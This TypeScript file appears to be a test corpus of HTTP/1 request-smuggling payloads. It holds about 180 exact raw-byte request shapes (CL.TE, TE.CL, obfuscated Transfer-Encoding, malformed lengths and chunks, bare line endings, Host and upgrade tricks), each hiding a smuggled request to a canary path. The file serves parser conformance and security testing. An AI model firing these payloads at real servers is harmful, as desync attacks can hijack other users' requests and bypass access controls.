/**
 * Ways to make two HTTP/1 parsers disagree about where a request ends or what it asks. Each shape carries a request for its canary where the
 * other parser would see one: no origin may ever be asked for it.
 * Sources: RFC 9112 section 11.2; J. Kettle, "HTTP Desync Attacks" (2019), "Browser-Powered Desync Attacks" (2022), "HTTP/1.1 must die" (2025);
 * CVE-2022-32213 to -32215, CVE-2023-25690, CVE-2025-22871, CVE-2025-32094.
 */
export interface Http1Shape {
  readonly family: string
  readonly name: string
  /** Exact bytes as latin1. `canary`: a path nobody may ask the origin for. */
  bytes(canary: string): string
  readonly method?: 'HEAD'
  /** More than one request, or none that is whole. */
  readonly answers?: number
}

const HOST = 'Host: polder.test\r\n'
const smuggled = (canary: string): string => `GET ${canary} HTTP/1.1\r\n${HOST}X-Rest: x`
const whole = (canary: string): string => `${smuggled(canary)}\r\n\r\n`
const post = (fields: string, content: string): string => `POST /attack HTTP/1.1\r\n${HOST}${fields}\r\n${content}`
const get = (fields: string, content = '', method = 'GET'): string => `${method} /attack HTTP/1.1\r\n${HOST}${fields}\r\n${content}`
const chunk = (content: string): string => `${content.length.toString(16)}\r\n${content}\r\n`
/** Content that ends at once when read as chunked, and at the end when read by length. */
const clTe = (canary: string): string => `0\r\n\r\n${whole(canary)}`

const shapes: Http1Shape[] = []
type Member = readonly [name: string, bytes: (canary: string) => string, more?: Pick<Http1Shape, 'method' | 'answers'>]
function family(name: string, members: readonly Member[]): void {
  for (const [member, bytes, more] of members) shapes.push({ family: name, name: member, bytes, ...more })
}

/** Chunked only for a parser that reads the coding this way; by length for one that does not. */
const bothWays = (coding: string) => (c: string): string => post(`Content-Length: ${clTe(c).length}\r\n${coding}`, clTe(c))
/** Without a length: whoever does not see chunked sees no content at all. */
const codingOnly = (coding: string) => (c: string): string => post(coding, `${chunk(whole(c))}0\r\n\r\n`)

family('CL.TE', [
  ['length, then chunked', bothWays('Transfer-Encoding: chunked\r\n')],
  ['chunked, then length', (c) => post(`Transfer-Encoding: chunked\r\nContent-Length: ${clTe(c).length}\r\n`, clTe(c))],
  ['length 0 and chunked', (c) => post('Content-Length: 0\r\nTransfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
  ['GET with both', (c) => get(`Content-Length: ${clTe(c).length}\r\nTransfer-Encoding: chunked\r\n`, clTe(c))],
])
family('TE.CL', [
  ['length ends within the first chunk', (c) => post('Content-Length: 4\r\nTransfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
  ['length ends before the first chunk', (c) => post('Transfer-Encoding: chunked\r\nContent-Length: 0\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
])
family('TE.TE', [
  ['xchunked', bothWays('Transfer-Encoding: xchunked\r\n')],
  ['xchunked without length', codingOnly('Transfer-Encoding: xchunked\r\n')],
  ['tab before chunked', bothWays('Transfer-Encoding:\tchunked\r\n')],
  ['tab after chunked', bothWays('Transfer-Encoding: chunked\t\r\n')],
  ['tab after chunked, no length', codingOnly('Transfer-Encoding: chunked\t\r\n')],
  ['vertical tab before chunked', bothWays('Transfer-Encoding: \x0bchunked\r\n')],
  ['form feed after chunked', bothWays('Transfer-Encoding: chunked\x0c\r\n')],
  ['two fields, chunked and identity', bothWays('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n')],
  ['two fields, identity and chunked', bothWays('Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n')],
  ['two fields, chunked twice', codingOnly('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n')],
  ['chunked, identity', bothWays('Transfer-Encoding: chunked, identity\r\n')],
  ['chunked, chunked', codingOnly('Transfer-Encoding: chunked, chunked\r\n')],
  ['gzip, chunked', codingOnly('Transfer-Encoding: gzip, chunked\r\n')],
  ['identity', bothWays('Transfer-Encoding: identity\r\n')],
  ['cow', bothWays('Transfer-Encoding: cow\r\n')],
  ['ChUnKeD in mixed case', codingOnly('tRaNsFeR-eNcOdInG: ChUnKeD\r\n')],
  ['quoted "chunked"', bothWays('Transfer-Encoding: "chunked"\r\n')],
  ['chunked;a=b', bothWays('Transfer-Encoding: chunked;a=b\r\n')],
  ['comma before chunked', bothWays('Transfer-Encoding: ,chunked\r\n')],
  ['empty Transfer-Encoding', bothWays('Transfer-Encoding:\r\n')],
  ['space before the colon', bothWays('Transfer-Encoding : chunked\r\n')],
  ['underscore for the hyphen', bothWays('Transfer_Encoding: chunked\r\n')],
  ['folded value', bothWays('Transfer-Encoding:\r\n chunked\r\n')],
  ['hidden in a folded field', bothWays('X: y\r\n Transfer-Encoding: chunked\r\n')],
  ['after a bare LF', bothWays('X: y\nTransfer-Encoding: chunked\r\n')],
  ['after a bare CR', bothWays('X: y\rTransfer-Encoding: chunked\r\n')],
  ['NUL after chunked', bothWays('Transfer-Encoding: chunked\0\r\n')],
  ['high byte in the name', bothWays('Transfer-Encoding\xa0: chunked\r\n')],
  ['Content-Encoding: chunked instead', bothWays('Content-Encoding: chunked\r\n')],
])
family('CL.0 and 0.CL', [
  ['GET with content', (c) => get(`Content-Length: ${whole(c).length}\r\n`, whole(c))],
  ['HEAD with content', (c) => get(`Content-Length: ${whole(c).length}\r\n`, whole(c), 'HEAD'), { method: 'HEAD' }],
  ['OPTIONS with content', (c) => get(`Content-Length: ${whole(c).length}\r\n`, whole(c), 'OPTIONS')],
  ['DELETE with content', (c) => get(`Content-Length: ${whole(c).length}\r\n`, whole(c), 'DELETE')],
  ['POST with content to a page', (c) => post(`Content-Length: ${whole(c).length}\r\n`, whole(c))],
  ['GET with chunked content', (c) => get('Transfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
  ['POST with chunked content', (c) => post('Transfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
  ['length with an underscore', (c) => post(`Content_Length: ${whole(c).length}\r\n`, '')],
  ['length with an underscore beside the real one', (c) => post(`Content-Length: ${whole(c).length}\r\nContent_Length: 0\r\n`, whole(c))],
  ['length named by Connection', (c) => post(`Connection: Content-Length\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['length and Expect in two spellings', (c) => post(`Expect: 100-continue\r\nExpect: x\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['Expect: 100-continue, content sent at once', (c) => post(`Expect: 100-continue\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['GET with Expect: 100-continue and content', (c) => get(`Expect: 100-continue\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['Expect: y 100-continue', (c) => post(`Expect: y 100-continue\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['Expect folded', (c) => post(`Expect:\r\n 100-continue\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
  ['content of a HEAD in chunks', (c) => get('Transfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`, 'HEAD'), { method: 'HEAD' }],
])
family('Content-Length', [
  ...(['+5', '-5', '5, 5', '5,6', '0x5', '5.0', '5;', '5 5', '', '1e1', '18446744073709551621', '4294967301', '00000000000000000005', '"5"', '5\0'] as const)
    .map((value) => [`"${value.replaceAll('\0', '\\0').replaceAll('\t', '\\t')}"`, (c: string) => post(`Content-Length: ${value}\r\n`, `aaaaa${whole(c)}`)] as const),
  ['"5 " with white space around', () => post('Content-Length: \t5 \t\r\n', 'aaaaa')],
  ['"05" with a zero before', () => post('Content-Length: 05\r\n', 'aaaaa')],
  ['two equal fields', () => post('Content-Length: 5\r\nContent-Length: 5\r\n', 'aaaaa')],
  ['two different fields', (c) => post(`Content-Length: 5\r\nContent-Length: ${whole(c).length + 5}\r\n`, `aaaaa${whole(c)}`)],
  ['space before the colon', (c) => post(`Content-Length : ${whole(c).length}\r\n`, whole(c))],
  ['tab in the name', (c) => post(`Content-Length\t: ${whole(c).length}\r\n`, whole(c))],
  ['space before the name', (c) => post(` Content-Length: ${whole(c).length}\r\n`, whole(c))],
  ['folded', (c) => post(`Content-Length:\r\n ${whole(c).length}\r\n`, whole(c))],
  ['first field, after a space', (c) => `POST /attack HTTP/1.1\r\n Content-Length: ${whole(c).length}\r\n${HOST}\r\n${whole(c)}`],
])
family('Chunks', [
  ['extension of 5,000 bytes', () => post('Transfer-Encoding: chunked\r\n', `5;${'x'.repeat(5_000)}\r\naaaaa\r\n0\r\n\r\n`)],
  ['extension ended by a bare LF', (c) => post('Transfer-Encoding: chunked\r\n', `2;x\nxx\r\n${whole(c).length.toString(16)}\r\n${whole(c)}\r\n0\r\n\r\n`)],
  ['extension with a bare CR', (c) => post('Transfer-Encoding: chunked\r\n', `2;x\rxx\r\n0\r\n\r\n${whole(c)}`)],
  ['extension with a bare LF in quotes', (c) => post('Transfer-Encoding: chunked\r\n', `2;x="\n\r\naa\r\n0\r\n\r\n${whole(c)}"\r\nbb\r\n0\r\n\r\n`)],
  ['extension without a name', () => post('Transfer-Encoding: chunked\r\n', `2;\r\naa\r\n0\r\n\r\n`)],
  ['extension ;\\n', (c) => post('Transfer-Encoding: chunked\r\n', `2;\n0\r\n\r\n${whole(c)}`)],
  ['size line ended by a bare LF', (c) => post('Transfer-Encoding: chunked\r\n', `5\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['chunk ended by a bare LF', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaa\n0\r\n\r\n${whole(c)}`)],
  ['last chunk ended by bare LFs', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaa\r\n0\n\n${whole(c)}`)],
  ['chunk without its end', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaaXX0\r\n\r\n${whole(c)}`)],
  ['chunk longer than its size', (c) => post('Transfer-Encoding: chunked\r\n', `3\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size 0x5', (c) => post('Transfer-Encoding: chunked\r\n', `0x5\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size +5', (c) => post('Transfer-Encoding: chunked\r\n', `+5\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size -5', (c) => post('Transfer-Encoding: chunked\r\n', `-5\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size with a space before', (c) => post('Transfer-Encoding: chunked\r\n', ` 5\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size with a space after', (c) => post('Transfer-Encoding: chunked\r\n', `5 \r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size with leading zeros', () => post('Transfer-Encoding: chunked\r\n', '00005\r\naaaaa\r\n0\r\n\r\n')],
  ['size with an underscore', (c) => post('Transfer-Encoding: chunked\r\n', `1_0\r\n${'a'.repeat(16)}\r\n0\r\n\r\n${whole(c)}`)],
  ['size above 32 bits', (c) => post('Transfer-Encoding: chunked\r\n', `100000005\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size above 64 bits', (c) => post('Transfer-Encoding: chunked\r\n', `10000000000000005\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['empty size', (c) => post('Transfer-Encoding: chunked\r\n', `\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['size in quotes', (c) => post('Transfer-Encoding: chunked\r\n', `"5"\r\naaaaa\r\n0\r\n\r\n${whole(c)}`)],
  ['last chunk 000', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n000\r\n\r\n')],
])
family('Trailers', [
  ['Content-Length', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaa\r\n0\r\nContent-Length: ${whole(c).length}\r\n\r\n`)],
  ['Transfer-Encoding', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n')],
  ['Host', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n0\r\nHost: evil.test\r\n\r\n')],
  ['X-Forwarded-For', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n0\r\nX-Forwarded-For: 10.0.0.1\r\n\r\n')],
  ['a request line', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaa\r\n0\r\nGET ${c} HTTP/1.1\r\n${HOST}\r\n`)],
  ['a bare LF in them', (c) => post('Transfer-Encoding: chunked\r\n', `5\r\naaaaa\r\n0\r\nX: y\n\n${whole(c)}`)],
  ['a space before the colon', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n0\r\nX : y\r\n\r\n')],
  ['a harmless one', () => post('Transfer-Encoding: chunked\r\n', '5\r\naaaaa\r\n0\r\nX-Checksum: 5\r\n\r\n')],
])
family('Lines and bytes', [
  ['bare LF ends every line', (c) => `GET /attack HTTP/1.1\nHost: polder.test\n\n${whole(c)}`],
  ['bare LF ends the head', (c) => `GET /attack HTTP/1.1\r\n${HOST}\n${whole(c)}`],
  ['bare CR ends a line', () => `GET /attack HTTP/1.1\r${HOST}\r\n`],
  ['bare CR in a value', () => get(`X: a\rb\r\n`)],
  ['LF in a value, then a request', (c) => get(`X: a\n\n${smuggled(c)}\r\n`)],
  ['NUL in a value', () => get('X: a\0b\r\n')],
  ['NUL in a name', () => get('X\0Y: b\r\n')],
  ['NUL in the target', () => `GET /att\0ack HTTP/1.1\r\n${HOST}\r\n`],
  ['NUL before the method', () => `\0GET /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['empty name', () => get(': b\r\n')],
  ['name with a space', () => get('X Y: b\r\n')],
  ['line without a colon', () => get('justtext\r\n')],
  ['folded line', () => get('X: a\r\n b\r\n')],
  ['folded with a tab', () => get('X: a\r\n\tb\r\n')],
  ['fold after the request line', () => `GET /attack HTTP/1.1\r\n X: y\r\n${HOST}\r\n`],
  ['space at the end of a value', () => get('X: a \r\n')],
  ['DEL in a value', () => get('X: a\x7fb\r\n')],
  ['high bytes in a value', () => get('X: \xe4\xf6\xfc\r\n')],
])
family('Request line', [
  ['%0d%0a in the target', (c) => `GET /attack%0d%0a%0d%0aGET%20${c}%20HTTP/1.1 HTTP/1.1\r\n${HOST}\r\n`],
  ['%0d%0a in the query', (c) => `GET /attack?x=%20HTTP/1.1%0d%0aHost:%20evil%0d%0a%0d%0aGET%20${c} HTTP/1.1\r\n${HOST}\r\n`],
  ['space in the target', (c) => `GET /attack ${c} HTTP/1.1\r\n${HOST}\r\n`],
  ['tab for a space', () => `GET\t/attack\tHTTP/1.1\r\n${HOST}\r\n`],
  ['two spaces', () => `GET  /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['space before the method', () => ` GET /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['HTTP/0.9', () => 'GET /attack\r\n\r\n'],
  ['HTTP/1.2', () => `GET /attack HTTP/1.2\r\n${HOST}\r\n`],
  ['HTTP/2.0', () => `GET /attack HTTP/2.0\r\n${HOST}\r\n`],
  ['HTTP/1.1 with text behind', (c) => `GET /attack HTTP/1.1 ${c}\r\n${HOST}\r\n`],
  ['http/1.1 in lower case', () => `GET /attack http/1.1\r\n${HOST}\r\n`],
  ['method in lower case', () => `get /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['unknown method', () => `FOO /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['CONNECT', () => `CONNECT polder.test:80 HTTP/1.1\r\n${HOST}\r\n`],
  ['TRACE', () => `TRACE /attack HTTP/1.1\r\n${HOST}\r\n`],
  ['fragment in the target', () => `GET /attack#x HTTP/1.1\r\n${HOST}\r\n`],
  ['raw high bytes in the target', () => `GET /att\xe4ck HTTP/1.1\r\n${HOST}\r\n`],
  ['backslashes in the target', () => `GET /attack\\..\\x HTTP/1.1\r\n${HOST}\r\n`],
  ['target without a slash', () => `GET attack HTTP/1.1\r\n${HOST}\r\n`],
  ['* for GET', () => `GET * HTTP/1.1\r\n${HOST}\r\n`],
])
family('Host', [
  ['absolute-form with another Host', () => 'GET http://polder.test/attack HTTP/1.1\r\nHost: evil.test\r\n\r\n'],
  ['absolute-form without Host', () => 'GET http://polder.test/attack HTTP/1.1\r\n\r\n'],
  ['absolute-form with user information', () => `GET http://user@polder.test/attack HTTP/1.1\r\n${HOST}\r\n`],
  ['absolute-form of another scheme', () => `GET ftp://polder.test/attack HTTP/1.1\r\n${HOST}\r\n`],
  ['absolute-form without authority', () => `GET http:///attack HTTP/1.1\r\n${HOST}\r\n`],
  ['two Hosts', () => 'GET /attack HTTP/1.1\r\nHost: polder.test\r\nHost: evil.test\r\n\r\n'],
  ['two equal Hosts', () => 'GET /attack HTTP/1.1\r\nHost: polder.test\r\nHost: polder.test\r\n\r\n'],
  ['no Host', () => 'GET /attack HTTP/1.1\r\n\r\n'],
  ['empty Host', () => 'GET /attack HTTP/1.1\r\nHost:\r\n\r\n'],
  ['Host with user information', () => 'GET /attack HTTP/1.1\r\nHost: evil@polder.test\r\n\r\n'],
  ['Host with a path', () => 'GET /attack HTTP/1.1\r\nHost: polder.test/x\r\n\r\n'],
  ['Host list', () => 'GET /attack HTTP/1.1\r\nHost: polder.test, evil.test\r\n\r\n'],
  ['Host with a port that is none', () => 'GET /attack HTTP/1.1\r\nHost: polder.test:80@evil\r\n\r\n'],
  ['Host with port 99999', () => 'GET /attack HTTP/1.1\r\nHost: polder.test:99999\r\n\r\n'],
  ['Host with an empty port', () => 'GET /attack HTTP/1.1\r\nHost: polder.test:\r\n\r\n'],
  ['Host folded', () => 'GET /attack HTTP/1.1\r\nHost:\r\n polder.test\r\n\r\n'],
  ['space before the colon of a second Host', () => 'GET /attack HTTP/1.1\r\nHost: polder.test\r\nHost : evil.test\r\n\r\n'],
  ['space before a first Host line', () => 'GET /attack HTTP/1.1\r\n Host: evil.test\r\nHost: polder.test\r\n\r\n'],
  ['Connection: host', () => get('Connection: host\r\n')],
  ['Connection: x-forwarded-for', () => get('Connection: close, x-forwarded-for\r\n')],
  ['Connection: transfer-encoding', (c) => post('Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n', `${chunk(whole(c))}0\r\n\r\n`)],
])
family('Upgrade', [
  ['h2c', (c) => get('Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n', `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${whole(c)}`)],
  ['h2c without HTTP2-Settings in Connection', () => get('Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n')],
  ['websocket where none is configured', () => get('Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n')],
  ['websocket of a wrong version', () => get('Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n')],
  ['the preface of HTTP/2', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['Upgrade with content', (c) => post(`Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${whole(c).length}\r\n`, whole(c))],
])
family('HTTP/1.0', [
  ['chunked', (c) => `POST /attack HTTP/1.0\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n${chunk(whole(c))}0\r\n\r\n`],
  ['chunked and length', (c) => `POST /attack HTTP/1.0\r\n${HOST}Transfer-Encoding: chunked\r\nContent-Length: ${clTe(c).length}\r\n\r\n${clTe(c)}`],
  ['keep-alive and content', (c) => `POST /attack HTTP/1.0\r\n${HOST}Connection: keep-alive\r\nContent-Length: ${whole(c).length}\r\n\r\n${whole(c)}`],
  ['what follows without keep-alive', (c) => `GET /attack HTTP/1.0\r\n${HOST}\r\n${whole(c)}`],
  ['no Host', () => 'GET /attack HTTP/1.0\r\n\r\n'],
])
family('Pipelining', [
  ['a request after Connection: close', (c) => get('Connection: close\r\n', whole(c))],
  ['a request after a refused one', (c) => get('X : y\r\n', whole(c))],
  ['text after content', (c) => post('Content-Length: 5\r\n', `aaaaaXXXX ${c} HTTP/1.1\r\n\r\n`), { answers: 2 }],
  ['half a request after content', (c) => post('Content-Length: 5\r\n', `aaaaaGET ${c} HTTP/1.1\r\n${HOST}X: `)],
  ['content that never comes whole', (c) => post(`Content-Length: ${whole(c).length + 50}\r\n`, whole(c)), { answers: 0 }],
  ['CR LF after content', () => post('Content-Length: 5\r\n', 'aaaaa\r\n')],
])

export const http1Shapes: readonly Http1Shape[] = shapes
